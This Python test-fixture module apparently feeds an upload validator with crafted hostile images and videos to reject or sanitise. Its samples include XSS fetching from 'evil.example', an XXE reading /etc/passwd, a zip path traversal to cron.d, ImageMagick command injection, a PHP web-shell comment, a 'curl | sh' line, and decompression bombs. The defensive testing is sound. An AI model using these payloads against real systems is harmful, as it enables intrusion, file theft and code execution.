"""Files that somebody could send in place of a picture or a tape, made here and nowhere kept."""

import gzip
import io
import struct
import zipfile
import zlib
from collections.abc import Iterator
from fractions import Fraction
from pathlib import Path
from typing import Any

import av
from PIL import Image, PngImagePlugin

SCRIPT = b"<script>fetch('https://evil.example')</script>"
HTML = b"<!DOCTYPE html><html><body>" + SCRIPT + b"</body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><circle r="9"/></svg>'
PLAYLIST = b"#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXTINF:9,\nfile:///etc/passwd\n#EXT-X-ENDLIST\n"
TRAVERSAL = "../../../../etc/cron.d/evil"


def a_picture(
    form: str = "JPEG", *, size: tuple[int, int] = (300, 400), mode: str = "RGB", **said: Any
) -> bytes:
    made = io.BytesIO()
    Image.linear_gradient("L").resize(size).convert(mode).save(made, form, **said)
    return made.getvalue()


def a_zip() -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as file:
        file.writestr(TRAVERSAL, SCRIPT)
    return made.getvalue()


def chunk(name: bytes, body: bytes, *, crc: int | None = None) -> bytes:
    found = zlib.crc32(name + body) if crc is None else crc
    return struct.pack(">I", len(body)) + name + body + struct.pack(">I", found)


def a_png(width: int, height: int, *chunks: bytes, pixels: bytes = b"") -> bytes:
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    data = chunk(b"IDAT", pixels or zlib.compress(b"\0" * 1000))
    return b"\x89PNG\r\n\x1a\n" + head + b"".join(chunks) + data + chunk(b"IEND", b"")


def with_size(jpeg: bytes, width: int, height: int) -> bytes:
    """A JPEG whose head says another size."""
    at = jpeg.index(b"\xff\xc0")
    return jpeg[: at + 5] + struct.pack(">HH", height, width) + jpeg[at + 9 :]


def pictures_refused() -> dict[str, bytes]:
    jpeg, png, webp = a_picture(), a_picture("PNG"), a_picture("WEBP")
    text_bomb = zlib.compress(b"A" * 100_000_000, 9)
    return {
        "nothing": b"",
        "zero bytes": b"\0" * 5_000,
        "random bytes": bytes((n * 7919) % 251 for n in range(5_000)),
        "plain text": b"This is my picture.",
        "an SVG": SVG,
        "an SVG behind an XML head": b'<?xml version="1.0"?>' + SVG,
        "an SVG in gzip": gzip.compress(SVG),
        "an external entity": b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><svg>&e;</svg>',
        "a page": HTML,
        "a GIF": a_picture("GIF"),
        "a GIF that is a script": b"GIF89a/*" + a_picture("GIF")[8:] + b"*/=1;alert(1)",
        "a GIF and an archive": a_picture("GIF") + a_zip(),
        "a BMP": a_picture("BMP"),
        "a TIFF": a_picture("TIFF"),
        "an icon": a_picture("ICO", size=(256, 256)),
        "a PDF": b"%PDF-1.7\n1 0 obj\n<< /OpenAction << /JS (app.alert(1)) >> >>\nendobj\n",
        "PostScript": b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 300 400\n(/etc/passwd) (r) file\n",
        "an ImageMagick script": b"push graphic-context\nfill 'url(https://evil.example\"|id\")'\npop graphic-context",
        "an archive": a_zip(),
        "a program": b"MZ" + b"\0" * 500,
        "a film": b"\0\0\0\x18ftypmp42\0\0\0\0mp42isom" + b"\0" * 500,
        "an AVIF": b"\0\0\0\x1cftypavif\0\0\0\0avifmif1miaf" + b"\0" * 500,
        "a JPEG cut off in its head": jpeg[:100],
        "a JPEG cut off in its picture": jpeg[: len(jpeg) // 2],
        "only the mark of a JPEG": b"\xff\xd8\xff",
        "a JPEG's mark before a page": b"\xff\xd8\xff\xe0" + HTML,
        "a PNG cut off": png[: len(png) // 2],
        "only the mark of a PNG": png[:8],
        "a WebP cut off": webp[: len(webp) // 2],
        "a WebP's mark before a page": b"RIFF\xff\0\0\0WEBPVP8 " + HTML,
        "a PNG that says 30,000 by 30,000": a_png(30_000, 30_000),
        "a PNG of 100,000 by 300": a_png(100_000, 300),
        "a PNG that says four billion": a_png(0xFFFFFFFF, 0xFFFFFFFF),
        "a PNG of no width": a_png(0, 400),
        "a JPEG that says 65,500 by 65,500": with_size(jpeg, 65_500, 65_500),
        "a bomb of pixels": a_picture("PNG", size=(7_000, 7_000), mode="L"),
        "a PNG of one pixel": a_picture("PNG", size=(1, 1)),
        "a picture as a line": a_picture("PNG", size=(5_000, 10)),
        "a PNG whose pixels are noise": a_png(300, 400, pixels=b"no zlib at all"),
        "a PNG with too few pixels": a_png(300, 400),
        "a PNG whose sum is wrong": png[:29] + b"\0\0\0\0" + png[33:],
        "a PNG with a bomb of text": a_png(300, 400, chunk(b"zTXt", b"x\0\0" + text_bomb)),
        "a PNG with a bomb of colours": a_png(300, 400, chunk(b"iCCP", b"x\0\0" + text_bomb)),
        "more than ten megabytes": jpeg + b"\0" * 10_000_000,
    }


def pictures_made_harmless() -> dict[str, tuple[bytes, bytes]]:
    """With what must be gone from the picture that is shown."""
    jpeg = a_picture()
    exif = Image.Exif()
    exif[0x010E] = "<script>exif"
    exif.get_ifd(0x8825)[2] = (52.0, 31.0, 12.0)  # where it was taken
    said = PngImagePlugin.PngInfo()
    said.add_text("Comment", "<?php system($_GET['c']); ?>")
    frames = [Image.new("RGB", (300, 400), (n, 0, 0)) for n in range(50)]
    return {
        "a JPEG and an archive": (jpeg + a_zip(), b"PK\x03\x04"),
        "a JPEG and a page": (jpeg + HTML, SCRIPT),
        "a JPEG with a script in its comment": (a_picture(comment=SCRIPT), SCRIPT),
        "a JPEG that says where it was taken": (a_picture(exif=exif), b"<script>exif"),
        "a PNG with a program in its text": (a_picture("PNG", pnginfo=said), b"<?php"),
        "a PNG and an archive": (a_picture("PNG") + a_zip(), b"PK\x03\x04"),
        "a JPEG in four inks": (a_picture(mode="CMYK"), b"Adobe"),
        "a PNG that is seen through": (a_picture("PNG", mode="RGBA"), b"PNG"),
        "a PNG that moves": (
            a_picture("PNG", save_all=True, append_images=frames),
            b"acTL",
        ),
        "a WebP": (a_picture("WEBP"), b"WEBP"),
    }


def box(name: bytes, body: bytes = b"", *, size: int | None = None) -> bytes:
    return struct.pack(">I", len(body) + 8 if size is None else size) + name + body


FTYP = box(b"ftyp", b"isom\0\0\2\0isomiso2mp41")


def deep(levels: int) -> bytes:
    made = b""
    for _ in range(levels):
        made = box(b"moov", made)
    return FTYP + made


def a_tape(path: Path, *, kind: str = "mp4", seconds: int = 2, rate: int = 25, **asks: Any) -> bytes:
    """A film without a sound; or, as `asks` says, with only sounds, with words, or with many tracks."""
    sounds, pictures = asks.get("sounds", 0), asks.get("pictures", 1)
    size = asks.get("size", (160, 90))
    options = {} if kind == "webm" else {"movflags": "faststart"}
    with av.open(str(path), "w", format=kind, options=options) as made:
        made.metadata.update(asks.get("metadata", {}))
        films: list[Any] = [
            made.add_stream(asks.get("codec", "libvpx-vp9"), rate=rate) for _ in range(pictures)
        ]
        for film in films:
            film.width, film.height = size
            film.pix_fmt = "yuv420p"
            if film.codec_context.name.startswith("libvpx"):
                film.options = {"deadline": "realtime", "cpu-used": "8"}
        tones: list[Any] = [made.add_stream("libopus", rate=48_000, layout="mono") for _ in range(sounds)]
        for film in films:
            for n in range(asks.get("frames", rate * seconds)):
                frame = av.VideoFrame(size[0], size[1], "yuv420p")
                for plane in frame.planes:
                    plane.update(bytes([n % 255]) * plane.buffer_size)
                frame.pts, frame.time_base = n, Fraction(1, rate)
                made.mux(film.encode(frame))
            made.mux(film.encode(None))
        for tone in tones:
            for n in range(50 * seconds):
                sound = av.AudioFrame(format="s16", layout="mono", samples=960)
                sound.planes[0].update(b"\0" * 1920)
                sound.sample_rate, sound.pts, sound.time_base = 48_000, n * 960, Fraction(1, 48_000)
                made.mux(tone.encode(sound))
            made.mux(tone.encode(None))
    return path.read_bytes()


def tapes_refused(folder: Path) -> Iterator[tuple[str, bytes]]:
    good = a_tape(folder / "good.mp4")
    yield "zeros", b"\0" * 5_000
    yield "random bytes", bytes((n * 7919) % 251 for n in range(5_000))
    yield "random bytes behind a right head", FTYP + bytes((n * 7919) % 251 for n in range(5_000))
    yield "a playlist", PLAYLIST
    yield "a playlist behind a right head", FTYP + PLAYLIST
    yield (
        "a list for concatenation",
        b"ffconcat version 1.0\nfile /etc/passwd\nfile 'https://evil.example/x.ts'\n",
    )
    yield "a DASH manifest", b'<?xml version="1.0"?><MPD><BaseURL>https://evil.example/</BaseURL></MPD>'
    yield (
        "a session description",
        b"v=0\no=- 0 0 IN IP4 127.0.0.1\nc=IN IP4 127.0.0.1\nm=video 9 RTP/AVP 96\n",
    )
    yield "a page", HTML
    yield "a page behind a right head", FTYP + HTML
    yield "an SVG", SVG
    yield "a JPEG", a_picture()
    yield "a GIF", a_picture("GIF")
    yield "an AVIF", box(b"ftyp", b"avif\0\0\0\0avifmif1") + b"\0" * 500
    yield "a PDF", b"%PDF-1.7\n" + b"\0" * 500
    yield "an archive", a_zip()
    yield "a program", b"\x7fELF\2\1\1" + b"\0" * 500
    yield "a shell script", b"#!/bin/sh\ncurl https://evil.example | sh\n"
    yield "an AVI", b"RIFF\xff\0\0\0AVI LIST" + b"\0" * 500
    yield "a WAV", b"RIFF\xff\0\0\0WAVEfmt " + b"\0" * 500
    yield "a transport stream", (b"\x47\x40\x00\x10" + b"\xff" * 184) * 30
    yield "an FLV", b"FLV\1\5\0\0\0\x09" + b"\0" * 500
    yield "an Ogg", b"OggS\0\2" + b"\0" * 500
    yield "a Matroska that is no WebM", a_tape(folder / "m.mkv", kind="matroska")
    yield "only the head of an MP4", FTYP
    yield "an MP4 without a table", FTYP + box(b"mdat", b"\0" * 5_000)
    yield "an MP4 cut off in its table", good[: good.index(b"moov") + 60]
    yield "an MP4 whose box has no end", FTYP + box(b"moov", b"\0" * 100, size=0xFFFFFFF0)
    yield "an MP4 whose box is smaller than itself", FTYP + box(b"moov", b"\0" * 100, size=3)
    yield "boxes in boxes", deep(5_000)
    yield "a picture wider than any camera's", a_tape(folder / "w.mp4", frames=2, size=(8_000, 16))
    yield "only sound", a_tape(folder / "s.mp4", pictures=0, sounds=1)
    yield "twelve tracks", a_tape(folder / "t.mp4", sounds=11)
    yield "a coding of another time", a_tape(folder / "o.mp4", codec="mpeg4")
    yield "eleven minutes", a_tape(folder / "l.mp4", seconds=660, rate=1)
    yield "a blink", a_tape(folder / "b.mp4", rate=4, frames=1)
    yield "only the head of a WebM", b"\x1a\x45\xdf\xa3\x9f\x42\x86\x81\x01\x42\x82\x84webm"
    yield (
        "a WebM that lies about its size",
        b"\x1a\x45\xdf\xa3\x01\xff\xff\xff\xff\xff\xff\xff\x42\x82\x84webm" + HTML,
    )


def tapes_made_harmless(folder: Path) -> Iterator[tuple[str, bytes, bytes]]:
    """With what must be gone from what is played."""
    good, film = a_tape(folder / "g.mp4", sounds=1), a_tape(folder / "g.webm", kind="webm")
    cut = good.index(b"moov") - 4
    yield "an MP4 and a page", good + HTML, SCRIPT
    yield "an MP4 and an archive", good + a_zip(), b"PK\x03\x04"
    yield "a page in a free box", good[:cut] + good[cut:] + box(b"free", HTML), SCRIPT
    yield "a page in a box of its own", good + box(b"uuid", b"\0" * 16 + HTML), SCRIPT
    yield "a title that is a script", a_tape(folder / "h.mp4", metadata={"title": SCRIPT.decode()}), SCRIPT
    yield "a comment that names a path", a_tape(folder / "c.mp4", metadata={"comment": TRAVERSAL}), b"cron.d"
    yield "a WebM and a page", film + HTML, SCRIPT
    yield (
        "a title in a WebM",
        a_tape(folder / "h.webm", kind="webm", metadata={"title": SCRIPT.decode()}),
        SCRIPT,
    )
